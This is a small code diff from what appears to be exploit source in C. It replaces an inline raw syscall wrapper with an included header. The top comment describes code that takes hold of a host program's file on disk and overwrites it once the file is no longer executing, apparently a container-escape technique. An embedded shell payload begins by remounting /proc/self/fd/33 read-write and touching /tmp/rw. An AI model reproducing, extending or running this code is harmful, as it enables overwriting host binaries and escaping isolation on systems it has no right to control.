@@ -2,17 +2,9 @@
  * the place of the program that the host has on its disk, takes hold of that, and goes on as a
  * shell that writes to it as soon as nobody executes it any more (until then ETXTBSY). Linked to
  * nothing, as it is loaded beside that program. */
-#include <asm/unistd.h>
 #include <fcntl.h>
 
-static long call(long number, long a, long b, long c) {
-  long result;
-  __asm__ volatile("syscall"
-                   : "=a"(result)
-                   : "a"(number), "D"(a), "S"(b), "d"(c)
-                   : "rcx", "r11", "memory");
-  return result;
-}
+#include "raw_call.h"
 
 static const char script[] =
     "exec 2>/dev/null; mount -o remount,bind,rw /proc/self/fd/33; touch /tmp/rw;"
